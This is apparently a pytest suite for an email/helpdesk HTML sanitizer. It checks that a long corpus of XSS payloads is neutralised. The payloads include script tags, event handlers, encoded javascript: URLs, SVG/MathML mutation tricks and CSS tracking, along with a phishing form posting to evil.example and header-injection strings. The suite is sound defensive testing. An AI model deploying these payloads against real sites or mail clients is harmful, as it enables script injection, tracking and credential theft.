import html as htmllib
import re
from html.parser import HTMLParser

import pytest

from tisket.lib.html import (
    clean_header_value,
    has_remote_images,
    html_to_text,
    restore_remote_images,
    sanitize_html,
)

# Hostile snippets: the OWASP XSS filter evasion cheat sheet, html5sec.org, DOMPurify mutation
# XSS bypasses and exploits published against webmail clients (Roundcube, Zimbra, Horde).
XSS_CORPUS = [
    # Script tags in many spellings
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<SCRIPT SRC="https://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT ="blah" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script\x20type="text/javascript">alert(1);</script>',
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    '<img src="cid:logo@example" onerror=alert(1)>',
    '<a href="https://example.com" onmouseover="alert(1)">hover</a>',
    '<a href="#" onclick="alert(1)">click</a>',
    '<div onmouseover="alert(1)" style="width:100%;height:100%">cover</div>',
    "<body onload=alert(1)>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>click me</x>",
    "<custom-element onmouseover=alert(1)>x</custom-element>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=submit value=click>",
    # javascript: and vbscript: URLs, plain and disguised
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">x</a>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72>",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="javas\x00cript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="VBScript:msgbox(1)">',
    '<img src="tisket-remote:javascript:alert(1)">',
    '<IMG DYNSRC="javascript:alert(1)">',
    '<IMG LOWSRC="javascript:alert(1)">',
    '<BGSOUND SRC="javascript:alert(1)">',
    "<BR SIZE=\"&{alert('XSS')}\">",
    # data: URLs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # srcset
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    '<img src="cid:a@b" srcset="https://evil.example/track.png 2x">',
    '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
    # SVG and MathML
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><animate attributeName="href" dur="5s" repeatCount="indefinite" keytimes="0;0;1" '
    'values="https://x?;javascript:alert(1);0" /><a id="x"><text x="20" y="20">X</text></a></svg>',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">X</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    # Frames, plugins, forms
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<embed src="javascript:alert(1)">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAv'
    'c3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIA==" type="image/svg+xml">',
    '<applet code="Evil.class" codebase="https://evil.example/"></applet>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form action="https://evil.example/phish"><input name=password type=password></form>',
    '<button form=x formaction="javascript:alert(1)">x</button>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    # Document-level elements
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,'
    'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/track.css">',
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"></HEAD>'
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    # Style sheets and inline styles
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>@import url(https://evil.example/track.css);</style>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    '<div style="background-image: url(&#1;javascript:alert(1))">x</div>',
    '<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>',
    '<div style="behavior: url(xss.htc);">x</div>',
    '<XSS STYLE="behavior: url(xss.htc);">x</XSS>',
    '<div style="width: expression(alert(1));">x</div>',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<div style="color: e\\xpression(alert(1))">x</div>',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063"
    "\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053"
    "\\0027\\0029'\\0029\">x</DIV>",
    '<p style="width:u\\72l(https://evil.example/x.png)">x</p>',
    '<p style="list-style-image:url(https://evil.example/x.png)">x</p>',
    '<p style="border-image:url(https://evil.example/x.png) 30 round">x</p>',
    '<p style="content:url(https://evil.example/x.png)">x</p>',
    '<p style="cursor:url(https://evil.example/x.cur),auto">x</p>',
    '<p style="-moz-binding:url(https://evil.example/xbl.xml#xss)">x</p>',
    '<p style="font-family:x;background:url(https://evil.example/p.gif)">x</p>',
    '<p style="width:calc(1px + image-set(url(https://evil.example/x.png) 1x))">x</p>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<table><td background="javascript:alert(1)">x</td></table>',
    '<a href="https://example.com/" style="position:fixed;top:0;left:0;width:100%;height:100%">',
    # Comments and mutation XSS
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<!--[if mso]><v:image src="javascript:alert(1)"/><![endif]-->',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
]

_EVENT_ATTRIBUTE = re.compile(r"^on", re.IGNORECASE)
_EVENT_IN_TAG = re.compile(r"(?:^|[\s/\"'])on[a-z]+\s*=", re.IGNORECASE)
_SCRIPT_SCHEME = re.compile(r"(?:java|vb)script:", re.IGNORECASE)
_FORBIDDEN_TAGS = ("svg", "math", "iframe", "object", "embed", "form", "style", "meta", "base")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def parse_tags(markup: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Tags()
    parser.feed(markup)
    parser.close()
    return parser.tags


def assert_inert(output: str, *, remote_images_shown: bool = False) -> None:
    lowered = output.lower()
    assert "<script" not in lowered
    for tag in _FORBIDDEN_TAGS:
        assert f"<{tag}" not in lowered
    assert "<link" not in lowered
    assert "url(" not in lowered
    # Tabs, newlines and controls inside a scheme are ignored by browsers: remove them too.
    decoded = re.sub(r"[\x00-\x20]", "", htmllib.unescape(output))
    assert not _SCRIPT_SCHEME.search(decoded)
    for raw_tag in re.findall(r"<[a-zA-Z][^>]*>", output):
        assert not _EVENT_IN_TAG.search(re.sub(r'"[^"]*"', '""', raw_tag))
    for tag, attrs in parse_tags(output):
        for name, value in attrs:
            assert not _EVENT_ATTRIBUTE.match(name)
            assert name != "srcset"
            if name == "href":
                assert re.match(r"(https?|mailto|tel):", value or "")
            if name == "src":
                assert tag == "img"
                remote = r"|https?://|//" if remote_images_shown else ""
                assert re.match(
                    rf"(cid:|data:image/(png|gif|jpe?g|webp|bmp)|tisket-remote:{remote})", value
                )


def test_the_corpus_is_large_enough():
    assert len(XSS_CORPUS) >= 40
    assert len(set(XSS_CORPUS)) == len(XSS_CORPUS)


@pytest.mark.parametrize("snippet", XSS_CORPUS)
def test_hostile_html_is_inert(snippet):
    output = sanitize_html(snippet)
    assert_inert(output)
    # Sanitizing twice, or showing remote images, must not bring anything back.
    assert_inert(sanitize_html(output))
    assert_inert(restore_remote_images(output), remote_images_shown=True)


def test_a_mutation_xss_leaves_no_image_with_a_handler():
    output = sanitize_html('<noscript><p title="</noscript><img src=x onerror=alert(1)>">')
    assert "onerror" not in output
    assert "src=" not in output


def test_links_open_in_a_new_tab_without_an_opener():
    output = sanitize_html('<a href="https://example.com/x" target="_self" rel="opener">x</a>')
    attrs = dict(parse_tags(output)[0][1])
    assert attrs["href"] == "https://example.com/x"
    assert attrs["target"] == "_blank"
    assert attrs["rel"] == "noopener noreferrer nofollow"


def test_relative_and_unknown_links_lose_their_href():
    output = sanitize_html(
        '<a href="/admin/delete">a</a><a href="ftp://x">b</a><a href="cid:x">c</a>'
    )
    assert "href" not in output
    assert ">a</a>" in output


GMAIL = """<div dir="ltr">Hi team,<div><br></div><div>The printer on <b>floor 3</b> is broken \
again. See <a href="https://status.example.com/printers/3" target="_blank">the status page</a>.\
</div><div><br></div><div style="color:rgb(34,34,34);font-family:Arial,Helvetica,sans-serif;\
font-size:small">Thanks,<br>Ana</div></div><br><div class="gmail_quote"><div dir="ltr" \
class="gmail_attr">On Mon, 3 Mar 2025 at 10:00, Bob &lt;<a href="mailto:bob@example.com">\
bob@example.com</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px \
0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Is it fixed?</blockquote></div>
"""

OUTLOOK = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:\
office:office"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style><!-- p.MsoNormal {margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;} --></style>
<!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]--></head>
<body lang="EN-GB" link="#0563C1"><div class="WordSection1"><p class="MsoNormal">Hello,<o:p></o:p>
</p><table class="MsoNormalTable" border="0" cellspacing="0" cellpadding="0" width="600"
style="width:450.0pt;border-collapse:collapse"><tr><td width="300" valign="top"
style="width:225.0pt;padding:0cm 5.4pt 0cm 5.4pt;background:#F2F2F2"><p class="MsoNormal"><b>
<span style="font-size:12.0pt;color:#1F3864">Invoice 1234</span></b></p></td><td valign=top>
<p class="MsoNormal"><a href="https://billing.example.com/inv/1234"><span style="color:#0563C1">
Pay now</span></a></p></td></tr></table><p class="MsoNormal"><img width="120" height="40"
src="cid:image001.png@01DA0000.00000000" alt="Logo"></p></div></body></html>
"""


def test_gmail_html_survives():
    output = sanitize_html(GMAIL)
    assert "<b>floor 3</b>" in output
    assert 'href="https://status.example.com/printers/3"' in output
    assert 'href="mailto:bob@example.com"' in output
    assert "font-family:Arial , Helvetica , sans-serif" in output  # as nh3 re-serializes it
    assert "color:rgb(34, 34, 34)" in output
    assert "<blockquote" in output
    assert "border-left:1px solid rgb(204, 204, 204)" in output
    assert "Is it fixed?" in output
    assert "Bob &lt;" in output
    assert "class=" not in output
    assert_inert(output)


def test_outlook_html_survives():
    output = sanitize_html(OUTLOOK)
    tags = parse_tags(output)
    table = dict(next(attrs for tag, attrs in tags if tag == "table"))
    assert table["border"] == "0"
    assert table["cellspacing"] == "0"
    assert table["cellpadding"] == "0"
    assert table["width"] == "600"
    assert "border-collapse:collapse" in table["style"]
    cell = dict(next(attrs for tag, attrs in tags if tag == "td"))
    assert cell["width"] == "300"
    assert cell["valign"] == "top"
    assert "padding:0cm 5.4pt 0cm 5.4pt" in cell["style"]
    assert "background-color:#F2F2F2" in cell["style"]
    assert "Invoice 1234" in output
    assert "<b>" in output
    assert 'href="https://billing.example.com/inv/1234"' in output
    assert "Pay now" in output
    image = dict(next(attrs for tag, attrs in tags if tag == "img"))
    assert image == {
        "width": "120",
        "height": "40",
        "src": "cid:image001.png@01DA0000.00000000",
        "alt": "Logo",
    }
    assert "Calibri" not in output
    assert "MsoNormal" not in output
    assert "shapedefaults" not in output
    assert_inert(output)


def test_sanitizing_is_idempotent():
    for markup in (GMAIL, OUTLOOK, '<img src="https://example.com/a.png?x=1&amp;y=2">'):
        once = sanitize_html(markup)
        assert sanitize_html(once) == once


def test_unsafe_css_properties_and_values_are_dropped():
    output = sanitize_html(
        '<p style="color:red;position:fixed;z-index:9;margin-top:-300px;margin-left:4px;'
        'font-weight:bold;width:expression(1);background-image:none">x</p>'
    )
    assert output == '<p style="color:red;margin-left:4px;font-weight:bold">x</p>'


def test_remote_images_are_neutralized_and_restorable():
    markup = (
        '<p>Hi</p><img src="https://tracker.example/p.gif?id=1&amp;u=2" width="1" '
        'onerror="alert(1)"><img src="//cdn.example/logo.png" alt="logo">'
    )
    stored = sanitize_html(markup)
    sources = [dict(attrs)["src"] for tag, attrs in parse_tags(stored) if tag == "img"]
    assert sources == [
        "tisket-remote:https://tracker.example/p.gif?id=1&u=2",
        "tisket-remote://cdn.example/logo.png",
    ]
    assert has_remote_images(stored)

    shown = restore_remote_images(stored)
    sources = [dict(attrs)["src"] for tag, attrs in parse_tags(shown) if tag == "img"]
    assert sources == ["https://tracker.example/p.gif?id=1&u=2", "//cdn.example/logo.png"]
    assert "onerror" not in shown
    assert "<p>Hi</p>" in shown


def test_restoring_never_revives_a_forged_remote_source():
    stored = sanitize_html('<img src="tisket-remote:javascript:alert(1)">')
    assert restore_remote_images(stored) == "<img>"
    forged = '<img src="tisket-remote:data:text/html,x"><a href="tisket-remote:https://x">a</a>'
    assert "tisket-remote" not in restore_remote_images(forged)
    assert "href" not in sanitize_html(forged)


def test_inline_and_data_images_are_kept():
    markup = (
        '<img src="cid:image001.png@01DA0000">'
        '<img src="data:image/png;base64,iVBORw0KGgo=">'
        '<img src="data:image/jpeg;base64,/9j/4AAQ">'
    )
    output = sanitize_html(markup)
    assert 'src="cid:image001.png@01DA0000"' in output
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in output
    assert 'src="data:image/jpeg;base64,/9j/4AAQ"' in output
    assert not has_remote_images(output)


def test_relative_image_sources_are_dropped():
    assert sanitize_html('<img src="/api/tickets/1/close">') == "<img>"


def test_has_remote_images_ignores_text_that_looks_like_one():
    output = sanitize_html('<p title="&lt;img src=&quot;tisket-remote:https://x&quot;&gt;">x</p>')
    assert not has_remote_images(output)
    assert not has_remote_images("<p>tisket-remote:https://example.com/a.png</p>")


# --- html_to_text ------------------------------------------------------------------------------


def test_text_of_blocks_breaks_and_entities():
    markup = (
        "<html><head><title>Subject</title><style>p {color: red}</style></head><body>"
        "<div>Hello&nbsp;<b>world</b> &amp; friends</div>"
        "<p>Para   one\n continues</p><p>Second</p>line1<br>line2<br><br><br><br>line3   "
        "<script>alert(1)</script></body></html>"
    )
    assert html_to_text(markup) == (
        "Hello world & friends\n\nPara one continues\n\nSecond\n\nline1\nline2\n\nline3"
    )


def test_text_of_lists():
    markup = "<ul><li>one</li><li>two<ul><li>nested</li></ul></li></ul><ol><li>a<li>b</ol>"
    assert html_to_text(markup) == "- one\n- two\n  - nested\n\n- a\n- b"


def test_text_of_links():
    markup = (
        '<p>See <a href="https://example.com/x">the page</a>, <a href="https://example.com">'
        'https://example.com</a>, <a href="mailto:a@example.com">a@example.com</a> and '
        '<a href="javascript:alert(1)">this</a>.</p><p><a href="https://example.com/logo">'
        '<img src="cid:logo"></a></p>'
    )
    assert html_to_text(markup) == (
        "See the page (https://example.com/x), https://example.com, a@example.com and this."
        "\n\nhttps://example.com/logo"
    )


def test_text_of_tables_quotes_and_preformatted_text():
    markup = (
        "<table><tr><td>A</td><td>B</td></tr><tr><td>C</td><td>D</td></tr></table>"
        "<blockquote><p>quoted</p>text</blockquote><pre>  code\n    indented  </pre>"
    )
    assert html_to_text(markup) == "A B\nC D\n\n> quoted\n\n> text\n\n  code\n    indented"


def test_text_when_head_is_never_closed():
    assert html_to_text("<head><title>x</title><body><p>Body text</p>") == "Body text"


def test_text_strips_trailing_spaces_and_collapses_blank_lines():
    text = html_to_text("<p>a   </p><p></p><p> </p><div><br><br></div><p>b</p>")
    assert text == "a\n\nb"


# --- clean_header_value ------------------------------------------------------------------------


def test_header_injection_becomes_one_line():
    assert clean_header_value("Hello\r\nBcc: victim@example.com") == "Hello Bcc: victim@example.com"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("  Re:\tyour   ticket  ", "Re: your ticket"),
        ("a\x00b\x1bc\x7fd\x85e", "a b c d e"),
        ("invoice\u202efdp.exe", "invoice fdp.exe"),
        ("\u2066x\u2069 \u200ey\u200f", "x y"),
        ("caf\u00e9 \u2603", "caf\u00e9 \u2603"),
        ("", ""),
    ],
)
def test_header_values_are_cleaned(value, expected):
    assert clean_header_value(value) == expected


def test_header_values_are_capped():
    assert clean_header_value("x" * 2000) == "x" * 998
    assert clean_header_value("abc def", max_length=4) == "abc"
